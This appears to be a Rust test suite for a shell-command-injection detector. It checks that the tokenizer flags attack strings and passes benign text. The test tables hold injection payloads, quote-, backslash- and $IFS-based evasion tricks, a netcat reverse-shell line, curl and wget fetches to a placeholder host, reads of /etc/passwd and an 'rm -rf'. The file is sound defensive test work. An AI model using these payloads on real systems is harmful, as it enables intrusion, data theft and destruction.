//! What the tokenizer must hold on any bytes, and tables of what it must and must not see.
#![allow(clippy::unwrap_used, reason = "a test")]

use proptest::prelude::*;

use super::{Shell, ShellSign};
use crate::language::{Context, Finding, Input, Role};

fn findings(text: &[u8], role: Role) -> Vec<Finding<ShellSign>> {
    crate::language::findings::<Shell>(&Input { role, ..Input::value(text) })
}

/// Signs whose protections are off unless they are asked for.
fn opt_in(sign: ShellSign) -> bool {
    matches!(sign, ShellSign::EnglishWord | ShellSign::Wildcard | ShellSign::Evasion | ShellSign::SqliteShell)
}

fn blocks(text: &[u8]) -> bool {
    findings(text, Role::Argument)
        .iter()
        .any(|finding| finding.context == Context::Code && !opt_in(finding.sign))
}

fn check(attacks: &[&str], benign: &[&str]) {
    let missed: Vec<_> = attacks.iter().filter(|text| !blocks(text.as_bytes())).collect();
    let taken: Vec<_> = benign.iter().filter(|text| blocks(text.as_bytes())).collect();
    assert!(missed.is_empty() && taken.is_empty(), "missed {missed:?}, taken {taken:?}");
}

#[test]
fn separators_begin_commands() {
    check(
        &[
            "10.1.1.1;id",
            "10.1.1.1 && id",
            "10.1.1.1 & id",
            "a.txt|id",
            "x; ls -l",
            "\";id;\"",
            "a);id|",
            "\nid\n",
            "a || whoami",
            "x\n/usr/bin/id",
            "|+id+|",
            "a;id\\n",
            "see the manual; cat /etc/passwd",
        ],
        &[
            "a; b; c",
            "R&D",
            "AT&T; R&B",
            "en|id|de",
            "name | date | time",
            "a=1&id=5&sort=date",
            "head & shoulders",
            "text/html; charset=utf-8; q=0.9",
            "Tom &amp; Jerry; &nbsp; more",
            "who; what; when",
            "<b>cat</b>; <i>ls</i>",
        ],
    );
}

#[test]
fn words_read_as_the_shell_reads_them() {
    check(
        &[
            ";w'h'o'am'i",
            ";w\"h\"oami",
            ";who\\ami",
            ";wh$@oami",
            ";who$()ami",
            ";who``ami",
            "& w^h^o^a^m^i",
            ";ls${IFS}-la",
            ";cat$IFS$9/etc/hosts",
            ";a=wh;b=oami;$a$b",
            ";{ls,-la}",
            ";$SHELL -c id",
            ";/???/c?t /etc/hosts",
            ";c\\\nat /etc/hosts",
            "`cu\\r''l http://203.0.113.9/`",
            ";u\\n\"\"ame -a",
        ],
        &[
            "I'd; he'd; they'd",
            "O'Brien; D'Angelo",
            "it's; who's; that's",
            "C:\\Temp\\new",
            "5'10\"; 6'",
            "{id,name}",
        ],
    );
}

#[test]
fn substitutions_run_commands() {
    check(
        &[
            "$(id)",
            "`id`",
            "x`id`y",
            "$(`id`)",
            "<(cat file)",
            "a=$(curl http://203.0.113.9/x)",
            "\"$(sleep 5)\"",
        ],
        &[
            "${name}",
            "$(this).hide()",
            "use `git status` first",
            "the `rm` and `ls` commands",
            "$5 and $(10)",
            "| `ls` | lists |",
        ],
    );
}

#[test]
fn wrappers_run_their_arguments() {
    check(
        &[
            "; sudo cat /etc/hosts",
            "; nohup sh /tmp/a",
            "; env X=1 bash -c id",
            "x | xargs rm -rf",
            "; timeout 5 nc -e sh 203.0.113.9 1",
            "cmd /c dir",
            "; busybox wget http://203.0.113.9/a",
            "--upload-pack=touch /tmp/x",
            "printf x | rev | sh",
        ],
        &["time to go", "nice; exec summary", "a nice time; command and conquer", "sudo", "--upload-pack"],
    );
}

#[test]
fn names_in_a_query_need_arguments() {
    let strong = |text: &str| {
        findings(text.as_bytes(), Role::ArgumentName)
            .iter()
            .any(|found| found.context == Context::Code && !opt_in(found.sign))
    };
    assert!(strong("bcdboot /r file.txt"));
    assert!(strong(" whoami /all"));
    for name in ["id", "uname", "whoami", "sort", "curl"] {
        assert!(!strong(name), "{name}");
    }
}

#[test]
fn a_program_is_a_scalar_of_documents() {
    let strong = |text: &str, role| {
        findings(text.as_bytes(), role)
            .iter()
            .any(|found| found.context == Context::Code && !opt_in(found.sign))
    };
    assert!(strong("/bin/sh", Role::Argument));
    assert!(!strong("/bin/sh", Role::Scalar));
    assert!(strong("cat /etc/passwd", Role::Scalar));
}

#[test]
fn repetition_stays_linear() {
    for part in [
        "$(", "`", ";{", "{,", "${", "[", "/[a", "() {", "a(){a|a", "<a ", ";if ", ";for %", "!!", "!-1",
        "-", "&", ";", "\\\n", "$IFS", "iex", "<!--#", "a=b;", "get-", "'", "${a", "|sh", ";a",
    ] {
        let text = part.repeat((1 << 19) / part.len());
        let begin = std::time::Instant::now();
        findings(text.as_bytes(), Role::Argument);
        assert!(begin.elapsed().as_secs() < 20, "{part:?} took {:?}", begin.elapsed());
    }
}

/// Command lines and the word that runs, letters that may be cut.
const ATTACKS: &[(&str, &str, &str)] = &[
    (";", "whoami", ""),
    ("10.0.0.1 && ", "uname", " -a"),
    ("x|", "wget", " http://203.0.113.9/a"),
    ("$(", "cat", " /etc/passwd)"),
    ("';", "netstat", " -an;'"),
    ("a\n", "ifconfig", " -a"),
    ("`", "curl", " http://203.0.113.9/`"),
];

const CUTS: &[&str] = &["''", "\"\"", "\\", "$@", "$*", "$()", "$9"];
const BLANKS: &[&str] = &[" ", "\t", "${IFS}", "$IFS$9", "  "];

proptest! {
    #[test]
    fn any_bytes_are_read(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        for role in [Role::Argument, Role::Scalar, Role::ArgumentName] {
            for found in findings(&bytes, role) {
                prop_assert!(found.span.offset <= bytes.len());
            }
        }
    }

    #[test]
    fn shell_like_bytes_are_read(text in "[ -~\\n]{0,8}([;|&`$(){}<>'\"\\\\^%!~*?#=/-]|id|cat|if|for|iex|IFS|\\[|\\]| ){0,80}") {
        for role in [Role::Argument, Role::Scalar, Role::ArgumentName] {
            for found in findings(text.as_bytes(), role) {
                prop_assert!(found.span.offset <= text.len());
            }
        }
    }

    #[test]
    fn cuts_and_blanks_hide_nothing(
        attack in 0..ATTACKS.len(),
        cuts in proptest::collection::vec((1usize..16, 0..CUTS.len()), 0..4),
        blank in 0..BLANKS.len(),
        upper in any::<bool>(),
    ) {
        let (before, name, behind) = ATTACKS[attack];
        let mut word: Vec<String> = name.chars().map(String::from).collect();
        for (at, cut) in cuts {
            let at = at % (word.len() - 1) + 1;
            let last = CUTS[cut];
            // A backslash or `$9` is cut short by what another insertion puts behind it; one kind a gap is enough.
            if word[at].len() == 1 {
                word[at] = format!("{last}{}", word[at]);
            }
        }
        let word = word.concat();
        let word = if upper { word.to_uppercase() } else { word };
        let text = format!("{before}{word}{}", behind.replacen(' ', BLANKS[blank], 1));
        prop_assert!(blocks(text.as_bytes()), "{text:?}");
    }
}
